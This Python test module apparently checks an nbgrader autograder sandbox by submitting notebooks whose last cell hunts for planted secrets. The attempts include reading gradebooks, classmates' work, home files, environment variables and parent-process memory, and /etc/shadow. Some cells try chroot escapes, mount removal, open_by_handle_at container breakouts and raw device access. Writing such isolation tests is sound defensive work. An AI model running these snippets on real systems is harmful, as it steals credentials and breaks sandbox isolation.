"""Attempts to read secrets: every row prints all texts that look like a planted secret."""

from __future__ import annotations

from ..hand import Make, last, right
from ..row import NOTHING, ON_ALL, ON_APART, ON_SHUT, Row, Stock
from .files import instead

HUNT = """
import glob, os, pathlib, re, subprocess, sys

def hunt(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in sorted(set(re.findall(rb"tok-[0-9a-f]{16}-[a-z]+", data))):
        print("found", found.decode())

def read(*patterns):
    for pattern in patterns:
        for name in glob.glob(pattern, recursive=True, include_hidden=True):
            try:
                if os.path.isfile(name):
                    with open(name, "rb") as file:
                        hunt(file.read(2**24))
            except OSError:
                pass
"""
"""Code that defines `hunt`, which prints secrets in data, and `read`, which hunts in files."""

MEMORY = """
def memory(process, most=2**28):
    try:
        maps = open(f"/proc/{process}/maps").read().splitlines()
        with open(f"/proc/{process}/mem", "rb", 0) as file:
            for line in maps:
                place, rights = line.split()[:2]
                first, end = (int(number, 16) for number in place.split("-"))
                if "rw" in rights and most > 0 and end - first < 2**27:
                    most -= end - first
                    try:
                        file.seek(first)
                        hunt(file.read(end - first))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError as error:
        print(type(error).__name__)
"""
"""Code that defines `memory`, which hunts in the memory of a process."""


def _tries(code: str) -> Make:
    """Return a function that submits right answers with this code in the last cell."""
    return right(last(HUNT + code))


def reading(name: str, code: str, *leaks: str, **more: object) -> Row:
    """Return a row of right answers with a search for secrets in the last cell.

    leaks: places whose secrets stock nbgrader reveals.
    """
    stock = Stock(leaks=leaks) if leaks else None
    return Row(name, _tries(code), **{"stock": stock, "tiers": ON_SHUT, **more})  # type: ignore[arg-type]


ROWS = (
    reading("the notebook's own file", "read('*', '**/*.ipynb', '../**/*')", "tests", tiers=ON_ALL),
    reading(
        "the cells that ran",
        "hunt(In)\nhunt(get_ipython().history_manager.input_hist_raw)\nhunt(globals())\n"
        "import linecache\nhunt(linecache.cache)",
        "tests",
        tiers=ON_ALL,
    ),
    reading("a global name of a test", "hunt(globals().get('secret', ''))", "tests", tiers=ON_ALL),
    reading(
        "live objects",
        "import gc\nhunt([o for o in gc.get_objects() if isinstance(o, (dict, list, tuple)) and len(o) < 99])"
        "\nfor o in gc.get_objects():\n    if isinstance(o, dict):\n        for v in list(o.values()):\n"
        "            if isinstance(v, str):\n                hunt(v)",
        "tests",
        tiers=ON_ALL,
    ),
    reading("the instructor's notebooks", "read('@COURSE@/source/**/*')", "tests"),
    reading("the gradebook", "read('@COURSE@/gradebook.db*')", "tests", "gradebook"),
    reading(
        "the gradebook by nbgrader",
        """
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@COURSE@/gradebook.db") as gradebook:
        hunt([student.first_name for student in gradebook.students])
        hunt([cell.source for cell in gradebook.find_notebook("study", "lab").source_cells])
except Exception as error:
    print(type(error).__name__)
""",
        "tests",
        "gradebook",
    ),
    reading("classmates' work", "read('@COURSE@/submitted/**/*', '@COURSE@/autograded/**/*')", "classmate", "graded"),
    reading("everything below the course, by climbing", "read('../../../**/*')", "classmate", "graded", "gradebook"),
    reading(
        "the instructor's home",
        "import pwd\nread('@HOME@/**/*')\nread(str(pathlib.Path.home()) + '/*')\n"
        "print(os.listdir(pwd.getpwuid(os.getuid()).pw_dir)[:3])",
        "home",
    ),
    reading(
        "IPython's history",
        "read('@HOME@/.ipython/**/*')\nread(str(pathlib.Path.home()) + '/.ipython/**/*')",
        "history",
    ),
    reading("any other file of the machine", "read('@ELSEWHERE@')", "elsewhere"),
    reading("shared memory", "read('/dev/shm/**/*')", "shared"),
    reading("environment variables", "hunt(dict(os.environ))\nhunt(dict(os.environb))", "environment", tiers=ON_ALL),
    reading(
        "the environment of another program",
        "print(subprocess.run(['/bin/sh', '-c', 'env'], capture_output=True).stdout.decode())",
        "environment",
        tiers=ON_ALL,
    ),
    reading("the first environment block", "read('/proc/self/environ')", "environment", tiers=ON_ALL),
    reading(
        "the C library's environment",
        "import ctypes\nenviron = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "
        "'environ')\nn = 0\nwhile environ and environ[n]:\n    hunt(environ[n])\n    n += 1",
        "environment",
        tiers=ON_ALL,
    ),
    reading("environments of other processes", "read('/proc/[0-9]*/environ')", "environment"),
    reading(
        "command lines and open files of other processes",
        "read('/proc/[0-9]*/cmdline')\nread('/proc/[0-9]*/fd/*')\n"
        "read('/proc/[0-9]*/cwd/*', '/proc/[0-9]*/root@ELSEWHERE@')",
        "elsewhere",
    ),
    reading(
        "inherited file descriptors",
        """
for number in range(3, 512):
    try:
        hunt(os.pread(number, 2**20, 0))
    except OSError:
        pass
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        for name in os.listdir(number):
            hunt(os.pread(os.open(name, os.O_RDONLY, dir_fd=number), 2**20, 0))
    except (OSError, NotImplementedError):
        pass
""",
        why="stock closes what the kernel does not need; a fork inherits all",
    ),
    reading("memory of the parent", MEMORY + "memory(os.getppid())", "tests", tiers=ON_APART),
    reading(
        "memory of all ancestors and siblings",
        MEMORY
        + """
process, seen = os.getppid(), []
while process > 1 and process not in seen:
    seen.append(process)
    memory(process)
    try:
        process = int(open(f"/proc/{process}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        break
memory(1)
""",
        "tests",
        tiers=ON_APART,
    ),
    reading("its own memory, which a fork inherits", MEMORY + "memory('self')", "tests", "environment", tiers=ON_ALL),
    reading(
        "memory of the parent by process_vm_readv",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

try:
    for line in open(f"/proc/{os.getppid()}/maps").read().splitlines():
        place, rights = line.split()[:2]
        first, end = (int(number, 16) for number in place.split("-"))
        if "rw" in rights and end - first < 2**26:
            buffer = ctypes.create_string_buffer(end - first)
            here, there = Span(ctypes.addressof(buffer), end - first), Span(first, end - first)
            if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                hunt(buffer.raw)
except OSError as error:
    print(type(error).__name__)
""",
        "tests",
        tiers=ON_APART,
    ),
    reading(
        "system shell commands",
        "get_ipython().system('cat @ELSEWHERE@; echo; cat @HOME@/passwords.txt')\n"
        "get_ipython().run_cell_magic('bash', '', 'cat @ELSEWHERE@ @COURSE@/source/lab/*.ipynb | head -c 300000')",
        "elsewhere",
        "home",
    ),
    reading(
        "line magics",
        "get_ipython().run_line_magic('run', '@ELSEWHERE@')\nget_ipython().run_line_magic('pycat', "
        "'@ELSEWHERE@')\nget_ipython().run_line_magic('history', '-g tok')",
        why="they read files as any code does; the row is for the magics",
    ),
    reading(
        "a chroot that is left again",
        """
for name in ("jail",):
    try:
        os.mkdir(name)
        root = os.open("/", os.O_RDONLY)
        os.chroot(name)
        os.fchdir(root)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        read("@ELSEWHERE@")
    except OSError as error:
        print(error)
""",
        "elsewhere",
    ),
    reading(
        "what lies below the mounts",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000 | 0x00020000), libc.unshare(0x00020000))
try:
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
except OSError:
    points = []
if "@ELSEWHERE@".split("/")[1] not in os.listdir("/"):
    for point in sorted(points, reverse=True):
        libc.umount2(point.encode(), 2)
        read("@ELSEWHERE@", point + "@ELSEWHERE@")
os.makedirs("again", exist_ok=True)
print(libc.mount(b"proc", b"again", b"proc", 0, None), libc.mount(b"/", b"again", b"", 4096 | 16384, None))
read("@ELSEWHERE@", "again/@ELSEWHERE@", "again/1/root@ELSEWHERE@")
""",
        why="as root stock simply reads",
        tiers=ON_SHUT,
    ),
    reading(
        "handles of files by number",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0")
number = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
print(number if number < 0 else "it worked")
""",
        why="the known way out of early containers",
        tiers=ON_APART,
    ),
    reading(
        "devices",
        """
import stat
blocks, characters = stat.S_IFBLK, stat.S_IFCHR
for name, kind, (major, minor) in (("a", blocks, (254, 0)), ("b", blocks, (8, 0)), ("c", characters, (1, 1))):
    try:
        os.mknod(name, kind | 0o600, os.makedev(major, minor))
        with open(name, "rb") as file:
            print("it worked" if file.read(512) else "")
    except OSError as error:
        print(error)
for name in ("/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/proc/kcore", "/proc/kmsg", "/dev/fuse", "/dev/kvm"):
    try:
        open(name, "rb").read(16)
        print("it worked", name)
    except OSError as error:
        print(error)
""",
        why="as root stock opens them",
        tiers=ON_APART,
    ),
    reading(
        "what the machine tells about itself",
        """
for name in ("/proc/1/cmdline", "/proc/mounts", "/proc/net/unix", "/proc/net/tcp", "/etc/hostname", "/etc/shadow"):
    try:
        text = open(name, "rb").read()
        print("it worked" if name in ("/etc/shadow",) and text or b"@COURSE@" in text else len(text))
    except OSError as error:
        print(error)
""",
        why="stock hides nothing",
        tiers=ON_SHUT,
    ),
    Row(
        "a folder that is a link to the gradebook's",
        instead("@COURSE@", "all"),
        NOTHING,
        problem="all is a link",
        why="stock copies what it finds and follows",
    ),
    Row(
        "a file that is a link to a secret",
        lambda made, notebook: {
            **right()(made, notebook),
            **instead("@HOME@/passwords.txt", "notes.txt")(made, notebook),
        },
        stock=Stock(leaks=("home",)),
    ),
    Row(
        "a link beside the notebook that the notebook reads",
        lambda made, notebook: {
            **right(last(HUNT + "read('notes.txt', 'all/source/**/*')"))(made, notebook),
            **instead("@HOME@/passwords.txt", "notes.txt")(made, notebook),
            **instead("@COURSE@", "all")(made, notebook),
        },
        stock=Stock(leaks=("home",)),
    ),
    Row(
        "a link for the timestamp",
        lambda made, notebook: {
            **right()(made, notebook),
            **instead("@HOME@/passwords.txt", "timestamp.txt")(made, notebook),
        },
        why="stock reads it, cannot parse it and stops; the message holds the text",
    ),
    reading(
        "the reference's text",
        """
for name in ("@PACKAGE@/reference/costs.py", "@PACKAGE@/checks/grade.py"):
    try:
        print("it worked" if "def " in open(name).read() else "")
    except OSError as error:
        print(type(error).__name__)
import importlib.util
try:
    print("it worked" if importlib.util.find_spec("autograder.reference") else "")
except (ImportError, ValueError, AttributeError) as error:
    print(type(error).__name__)
""",
        stock=Stock(shows="it worked"),
    ),
)
